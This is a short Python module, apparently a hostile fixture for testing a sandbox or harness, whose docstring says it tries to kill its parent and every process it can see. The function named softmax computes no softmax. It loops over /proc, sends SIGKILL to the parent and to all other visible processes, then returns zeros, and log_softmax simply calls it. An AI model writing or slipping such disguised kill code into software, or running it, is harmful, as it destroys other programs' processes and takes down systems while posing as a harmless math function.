"""Tries to kill its parent and every other process it can see."""
import os
import signal

import numpy as np


def softmax(x, axis=-1):
    for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return np.zeros_like(np.asarray(x, dtype=float))


def log_softmax(x, axis=-1):
    return softmax(x, axis)
